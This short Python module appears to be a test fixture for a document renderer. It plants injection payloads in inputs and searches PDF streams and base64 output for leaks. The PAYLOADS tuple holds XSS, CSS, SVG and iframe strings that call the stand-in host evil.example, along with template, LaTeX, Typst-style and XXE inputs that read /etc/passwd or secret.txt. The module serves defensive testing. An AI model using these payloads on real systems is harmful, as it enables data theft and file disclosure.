"""What is planted in photos and texts, and sought in everything that leaves."""

from __future__ import annotations

import base64
import re
import zlib
from collections.abc import Iterator


def layers(data: bytes) -> Iterator[bytes]:
    """The file itself, the streams of a PDF inflated, and what a page carries in base64."""
    yield data
    for stream in re.finditer(rb"stream\r?\n", data):
        try:
            yield zlib.decompressobj().decompress(data[stream.end() :])
        except zlib.error:
            continue
    for piece in re.findall(rb"base64,([A-Za-z0-9+/=]+)", data):
        yield base64.b64decode(piece)


SECRET = "what-another-file-holds"

FOREIGN = "http://evil.example"

PAYLOADS = (
    f"<script>fetch('{FOREIGN}/a')</script>", f'"><img src="{FOREIGN}/b" onerror="new Image().src=\'{FOREIGN}/c\'">',
    f"</style><link rel=stylesheet href={FOREIGN}/d>",
    f"<iframe src='file:///etc/passwd'></iframe><base href={FOREIGN}/>",
    f"url({FOREIGN}/e) @import '{FOREIGN}/f';",
    f"<svg><use href='{FOREIGN}/g#x'/></svg><meta http-equiv=refresh content='0;{FOREIGN}'>",
    '#read("secret.txt") #image("secret.txt") #include "secret.txt"',
    '#eval("read(\\"secret.txt\\")") $ #link("http://evil.example") $',
    '*] #plugin("x") #raw(read("/etc/passwd")) `x` [*',
    "{{ 7*7 }}{% include '/etc/passwd' %}", "\\input{/etc/passwd} %n%s",
    "]]></text><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
)  # fmt: skip
